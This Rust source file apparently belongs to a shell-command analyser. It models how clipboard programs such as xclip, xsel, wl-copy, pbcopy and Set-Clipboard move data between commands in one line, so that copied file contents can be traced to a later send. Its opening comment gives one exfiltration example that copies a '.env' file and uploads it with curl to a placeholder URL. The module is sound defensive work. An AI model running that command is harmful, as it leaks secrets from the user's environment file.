//! The clipboard as a channel within a command line. Programs that put
//! text into a selection (`xclip [-i] [FILE...]`, `xsel -i`, `wl-copy
//! [TEXT...]`, `pbcopy`, `clip.exe`, `win32yank -i`, PowerShell's
//! `Set-Clipboard`, `termux-clipboard-set`) and programs that print it
//! (`xclip -o`, `xsel -o`, `wl-paste`, `pbpaste`, `win32yank -o`,
//! `Get-Clipboard`, `termux-clipboard-get`). A copy reads its files and
//! writes none: the selection is state the walk keeps for the rest of the
//! line ([`Selections`]), so what a later paste prints is what was copied
//! (`xclip -i .env && xclip -o | curl -F file=@- URL` sends `.env`).
//! Copying alone sends nothing.

use super::{Invocation, Nested, Outcome, send_file};
use crate::args::{self, Arg, Item, Spec};
use crate::{Payload, flow};

/// A selection: X11's primary, secondary and clipboard selections and its
/// cut buffer, Wayland's clipboard and primary selection, macOS's
/// pasteboards, Windows' clipboard. The desktop's clipboard is one
/// whichever program reaches it (XWayland and WSLg keep X's, Wayland's
/// and Windows' in step), and so is its primary selection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Selection {
    Clipboard,
    Primary,
    Secondary,
    CutBuffer,
    /// A macOS pasteboard other than the general one (`pbcopy -pboard
    /// find`): `find`, `font` or `ruler`.
    Pasteboard(&'static str),
}

/// What one command does to the selections.
#[derive(Debug)]
pub(crate) enum ClipboardStep {
    /// The selection holds `payload` from now on (after what it held,
    /// with `append`); an empty payload clears it.
    Copy {
        selection: Selection,
        payload: Payload,
        append: bool,
    },
    /// The command prints what the selection holds.
    Paste(Selection),
    /// The commands the command runs read what the selection holds on
    /// their standard input (`wl-paste --watch CMD`).
    Feed(Selection),
    /// The two selections trade what they hold (`xsel --exchange`).
    Exchange(Selection, Selection),
}

/// What the line put into each selection so far.
#[derive(Debug, Default)]
pub(crate) struct Selections(Vec<(Selection, Payload)>);

/// What a command's pastes give: what it prints, and what the commands it
/// runs read.
#[derive(Debug, Default)]
pub(crate) struct Pasted {
    pub printed: Option<Payload>,
    pub fed: Option<Payload>,
}

impl Selections {
    /// What `selection` holds (nothing the line put there: empty).
    fn holds(&self, selection: Selection) -> Payload {
        self.0
            .iter()
            .find(|(s, _)| *s == selection)
            .map(|(_, payload)| payload.clone())
            .unwrap_or_default()
    }

    fn set(&mut self, selection: Selection, payload: Payload) {
        self.0.retain(|(s, _)| *s != selection);
        self.0.push((selection, payload));
    }

    /// Applies a command's steps in order, and says what its pastes give.
    pub(crate) fn apply(&mut self, steps: Vec<ClipboardStep>) -> Pasted {
        let mut pasted = Pasted::default();
        for step in steps {
            match step {
                ClipboardStep::Copy {
                    selection,
                    payload,
                    append,
                } => {
                    let mut held = if append {
                        self.holds(selection)
                    } else {
                        Payload::default()
                    };
                    flow::merge(&mut held, &payload);
                    self.set(selection, held);
                }
                ClipboardStep::Paste(selection) => {
                    let printed = pasted.printed.get_or_insert_with(Payload::default);
                    flow::merge(printed, &self.holds(selection));
                }
                ClipboardStep::Feed(selection) => {
                    let fed = pasted.fed.get_or_insert_with(Payload::default);
                    flow::merge(fed, &self.holds(selection));
                }
                ClipboardStep::Exchange(one, other) => {
                    let (first, second) = (self.holds(one), self.holds(other));
                    self.set(one, second);
                    self.set(other, first);
                }
            }
        }
        pasted
    }
}

pub(super) fn handle(inv: &Invocation<'_>) -> Option<Outcome> {
    match inv.program {
        "xclip" => Some(xclip(inv)),
        "xsel" => Some(xsel(inv)),
        "wl-copy" => Some(wl_copy(inv)),
        "wl-paste" => Some(wl_paste(inv)),
        "pbcopy" => Some(copy_stdin(inv, pasteboard(inv))),
        "pbpaste" => Some(paste(pasteboard(inv))),
        // Windows' clipboard from WSL or Git Bash.
        "clip" => Some(copy_stdin(inv, Selection::Clipboard)),
        "win32yank" => Some(win32yank(inv)),
        "termux-clipboard-set" => Some(copy_words(inv, inv.args, Selection::Clipboard)),
        "termux-clipboard-get" => Some(paste(Selection::Clipboard)),
        "set-clipboard" | "scb" => Some(set_clipboard(inv)),
        // `Get-Clipboard [-Raw] [-Format F]`.
        "get-clipboard" | "gcb" => Some(paste(Selection::Clipboard)),
        _ => None,
    }
}

/// A command that prints `selection` (and nothing from its standard input).
fn paste(selection: Selection) -> Outcome {
    Outcome {
        stdout: Some(Payload::default()),
        clipboard: vec![ClipboardStep::Paste(selection)],
        ..Outcome::default()
    }
}

/// A step that puts `payload` into `selection`.
fn copy(selection: Selection, payload: Payload, append: bool) -> ClipboardStep {
    ClipboardStep::Copy {
        selection,
        payload,
        append,
    }
}

/// A command that copies its standard input into `selection` and prints
/// nothing (`pbcopy`, `clip`).
fn copy_stdin(inv: &Invocation<'_>, selection: Selection) -> Outcome {
    Outcome {
        stdout: Some(Payload::default()),
        clipboard: vec![copy(selection, inv.stdin.clone(), false)],
        ..Outcome::default()
    }
}

/// A command that copies its words (`wl-copy TEXT`,
/// `termux-clipboard-set TEXT`), else its standard input, into `selection`.
fn copy_words(inv: &Invocation<'_>, words: &[Arg], selection: Selection) -> Outcome {
    let payload = if words.is_empty() {
        inv.stdin.clone()
    } else {
        words_payload(words)
    };
    Outcome {
        stdout: Some(Payload::default()),
        clipboard: vec![copy(selection, payload, false)],
        ..Outcome::default()
    }
}

/// What words carry, text and expansions.
fn words_payload(words: &[Arg]) -> Payload {
    let mut payload = Payload::default();
    for word in words {
        flow::merge(&mut payload, &word.payload());
    }
    payload
}

/// xclip's options (X resources: one dash, any unambiguous prefix), and
/// whether each takes a value.
const XCLIP_OPTIONS: &[(&str, bool)] = &[
    ("loops", true),
    ("display", true),
    ("help", false),
    ("selection", true),
    ("filter", false),
    ("in", false),
    ("out", false),
    ("version", false),
    ("silent", false),
    ("quiet", false),
    ("verbose", false),
    ("noutf8", false),
    ("target", true),
    ("rmlastnl", false),
    ("sensitive", false),
];

/// An xclip option written as `-NAME` or an unambiguous prefix of it
/// (`-o`, `-sel`); two dashes are taken too.
fn xclip_option(text: &str) -> Option<(&'static str, bool)> {
    let written = text.strip_prefix("--").or_else(|| text.strip_prefix('-'))?;
    if written.is_empty() {
        return None;
    }
    if let Some(exact) = XCLIP_OPTIONS.iter().find(|(name, _)| *name == written) {
        return Some(*exact);
    }
    let mut prefixed = XCLIP_OPTIONS
        .iter()
        .filter(|(name, _)| name.starts_with(written));
    match (prefixed.next(), prefixed.next()) {
        (Some(only), None) => Some(*only),
        // `-se` is used for `-selection` (`-sensitive` came later).
        _ if "selection".starts_with(written) && written.len() > 1 => Some(("selection", true)),
        _ => None,
    }
}

/// An X selection by xclip's and xsel's reading of its name: the first
/// letter (`c`, `clip`, `clipboard`; `p`; `s`; `b`, the cut buffer).
fn x_selection(name: &str) -> Selection {
    match name.chars().next().map(|c| c.to_ascii_lowercase()) {
        Some('c') => Selection::Clipboard,
        Some('s') => Selection::Secondary,
        Some('b') => Selection::CutBuffer,
        _ => Selection::Primary,
    }
}

/// `xclip [-i|-o] [-selection S] [-f] [FILE...]`: input is the default
/// mode (the files, else standard input, go into the selection, primary
/// unless `-selection` names another; `-f` prints them back too); `-o`
/// prints the selection. The last of `-i`/`-o` counts.
fn xclip(inv: &Invocation<'_>) -> Outcome {
    let mut selection = Selection::Primary;
    let mut output = false;
    let mut filter = false;
    let mut files: Vec<&Arg> = Vec::new();
    let mut words = inv.args.iter();
    while let Some(word) = words.next() {
        let Some((name, takes_value)) = xclip_option(&word.text) else {
            if !word.text.starts_with('-') || word.text == "-" {
                files.push(word);
            }
            continue;
        };
        let value = if takes_value { words.next() } else { None };
        match name {
            "selection" => selection = value.map_or(selection, |v| x_selection(&v.text)),
            "in" => output = false,
            "out" => output = true,
            "filter" => filter = true,
            _ => {}
        }
    }
    if output {
        return paste(selection);
    }
    let mut outcome = Outcome::default();
    let mut payload = Payload::default();
    if files.is_empty() {
        payload = inv.stdin.clone();
    }
    for file in files {
        send_file(inv, &mut payload, &file.text, false);
        if file.text == "-" {
            flow::merge(&mut payload, inv.stdin);
        } else {
            outcome.read(inv.path(&file.text), false);
        }
    }
    if filter {
        outcome.stdout = Some(payload.clone());
    } else {
        outcome.stdout = Some(Payload::default());
    }
    outcome.clipboard.push(copy(selection, payload, false));
    outcome
}

/// `xsel [-p|-s|-b] [-i|-a|-f|-o|-c|-d|-x|-k]`: `-i`/`--input` (`-a`
/// appends, `-f` follows) sets the selection from standard input, `-o`
/// prints it (with both, the old one is printed first), `-c`/`-d` clear
/// it, `-x` swaps primary and secondary. With no mode, as an agent runs it
/// (standard output not a terminal), it prints the selection, and sets it
/// from standard input when that is piped in.
fn xsel(inv: &Invocation<'_>) -> Outcome {
    let items = args::parse(
        inv.args,
        &Spec {
            short: "tl",
            long: &["display", "selectionTimeout", "logfile"],
            stop_after: None,
        },
    );
    let selection = items
        .iter()
        .rev()
        .find_map(|item| match item {
            Item::Opt { name, .. } => match name.as_ref() {
                "-p" | "--primary" => Some(Selection::Primary),
                "-s" | "--secondary" => Some(Selection::Secondary),
                "-b" | "--clipboard" => Some(Selection::Clipboard),
                _ => None,
            },
            Item::Pos(_) => None,
        })
        .unwrap_or(Selection::Primary);
    let has = |names: &[&str]| args::has(&items, names);
    let append = has(&["-a", "--append", "-f", "--follow"]);
    let input = append || has(&["-i", "--input"]);
    let output = has(&["-o", "--output"]);
    let clear = has(&["-c", "--clear", "-d", "--delete"]);
    let exchange = has(&["-x", "--exchange"]);
    let keep = has(&["-k", "--keep"]);
    let mut outcome = Outcome {
        stdout: Some(Payload::default()),
        ..Outcome::default()
    };
    if let Some(log) = args::value(&items, &["-l", "--logfile"]) {
        outcome.write(inv.path(&log.text), true);
    }
    let no_mode = !(input || output || clear || exchange || keep);
    if output || no_mode {
        outcome.clipboard.push(ClipboardStep::Paste(selection));
    }
    if input || (no_mode && inv.has_stdin) {
        outcome
            .clipboard
            .push(copy(selection, inv.stdin.clone(), append));
    }
    if clear {
        outcome
            .clipboard
            .push(copy(selection, Payload::default(), false));
    }
    if exchange {
        outcome.clipboard.push(ClipboardStep::Exchange(
            Selection::Primary,
            Selection::Secondary,
        ));
    }
    outcome
}

/// `wl-copy [-p] [-c] [TEXT...]`: the words, else standard input, go into
/// the clipboard (`--primary`: the primary selection); `--clear` empties it.
fn wl_copy(inv: &Invocation<'_>) -> Outcome {
    let items = args::parse(
        inv.args,
        &Spec {
            short: "ts",
            long: &["type", "seat"],
            stop_after: None,
        },
    );
    let selection = if args::has(&items, &["-p", "--primary"]) {
        Selection::Primary
    } else {
        Selection::Clipboard
    };
    if args::has(&items, &["-c", "--clear"]) {
        return Outcome {
            clipboard: vec![copy(selection, Payload::default(), false)],
            ..Outcome::default()
        };
    }
    let words: Vec<Arg> = args::positionals(&items).into_iter().cloned().collect();
    copy_words(inv, &words, selection)
}

/// `wl-paste [-p] [-l] [--watch CMD...]`: prints the clipboard (the
/// primary selection with `-p`); `--list-types` prints only its types;
/// `--watch CMD` runs CMD with what it holds on standard input.
fn wl_paste(inv: &Invocation<'_>) -> Outcome {
    let watch = inv
        .args
        .iter()
        .position(|a| a.text == "-w" || a.text == "--watch");
    let (options, command) = match watch {
        Some(at) => (
            inv.args.get(..at).unwrap_or_default(),
            inv.args.get(at + 1..).unwrap_or_default(),
        ),
        None => (inv.args, &[][..]),
    };
    let items = args::parse(
        options,
        &Spec {
            short: "ts",
            long: &["type", "seat"],
            stop_after: None,
        },
    );
    let selection = if args::has(&items, &["-p", "--primary"]) {
        Selection::Primary
    } else {
        Selection::Clipboard
    };
    if watch.is_some() {
        let mut outcome = Outcome::default();
        if !command.is_empty() {
            outcome.nested.push(Nested::Argv {
                argv: command.to_vec(),
                env: Vec::new(),
                cwd: None,
            });
            outcome.clipboard.push(ClipboardStep::Feed(selection));
        }
        return outcome;
    }
    if args::has(&items, &["-l", "--list-types"]) {
        return Outcome {
            stdout: Some(Payload::default()),
            ..Outcome::default()
        };
    }
    paste(selection)
}

/// The pasteboard `pbcopy`/`pbpaste` use: the general one (the
/// clipboard) unless `-pboard find|font|ruler` names another.
fn pasteboard(inv: &Invocation<'_>) -> Selection {
    let named = inv
        .args
        .iter()
        .position(|a| a.text == "-pboard")
        .and_then(|at| inv.args.get(at + 1));
    match named.map(|a| a.text.as_str()) {
        Some("find") => Selection::Pasteboard("find"),
        Some("font") => Selection::Pasteboard("font"),
        Some("ruler") => Selection::Pasteboard("ruler"),
        _ => Selection::Clipboard,
    }
}

/// `win32yank -i` copies standard input to Windows' clipboard, `-o`
/// prints it.
fn win32yank(inv: &Invocation<'_>) -> Outcome {
    if inv.args.iter().any(|a| a.text == "-o") {
        return paste(Selection::Clipboard);
    }
    if inv.args.iter().any(|a| a.text == "-i") {
        return copy_stdin(inv, Selection::Clipboard);
    }
    Outcome::default()
}

/// A PowerShell parameter as written (`-Value`, `-va`, `-Path:x`): its
/// full name among `names` (the one it is a prefix of), and a value
/// attached with `:`.
fn cmdlet_parameter<'a>(
    text: &'a str,
    names: &[&'static str],
) -> Option<(&'static str, Option<&'a str>)> {
    let body = text.strip_prefix('-')?;
    let (written, attached) = match body.split_once(':') {
        Some((name, value)) => (name, Some(value)),
        None => (body, None),
    };
    let written = written.to_ascii_lowercase();
    if written.is_empty() {
        return None;
    }
    let mut matching = names.iter().filter(|n| n.starts_with(&written));
    let exact = names.iter().find(|n| **n == written);
    match (exact, matching.next(), matching.next()) {
        (Some(name), _, _) | (None, Some(name), None) => Some((name, attached)),
        _ => Some(("", attached)),
    }
}

/// `Set-Clipboard [-Value] TEXT... [-Append] [-PassThru]`, `Set-Clipboard
/// -Path|-LiteralPath FILE`, or what the pipeline gives it: the text, the
/// files or the input goes into the clipboard.
fn set_clipboard(inv: &Invocation<'_>) -> Outcome {
    const NAMES: &[&str] = &[
        "value",
        "append",
        "path",
        "literalpath",
        "lp",
        "ashtml",
        "passthru",
        "asosc52",
    ];
    let mut outcome = Outcome::default();
    let mut values: Vec<Arg> = Vec::new();
    let mut payload = Payload::default();
    let mut append = false;
    let mut passthru = false;
    let mut words = inv.args.iter();
    while let Some(word) = words.next() {
        let Some((name, attached)) = cmdlet_parameter(&word.text, NAMES) else {
            values.push(word.clone());
            continue;
        };
        let value = match attached {
            Some(text) => Some(word.with_text(text)),
            None if matches!(name, "value" | "path" | "literalpath" | "lp") => {
                words.next().cloned()
            }
            None => None,
        };
        match (name, value) {
            ("value", Some(value)) => values.push(value),
            ("path" | "literalpath" | "lp", Some(file)) => {
                for path in file
                    .text
                    .split(',')
                    .map(str::trim)
                    .filter(|p| !p.is_empty())
                {
                    send_file(inv, &mut payload, path, false);
                    outcome.read(inv.path(path), false);
                }
            }
            ("append", _) => append = true,
            ("passthru", _) => passthru = true,
            _ => {}
        }
    }
    if values.is_empty() && payload.is_empty() {
        payload = inv.stdin.clone();
    }
    flow::merge(&mut payload, &words_payload(&values));
    outcome.stdout = Some(if passthru {
        payload.clone()
    } else {
        Payload::default()
    });
    outcome
        .clipboard
        .push(copy(Selection::Clipboard, payload, append));
    outcome
}
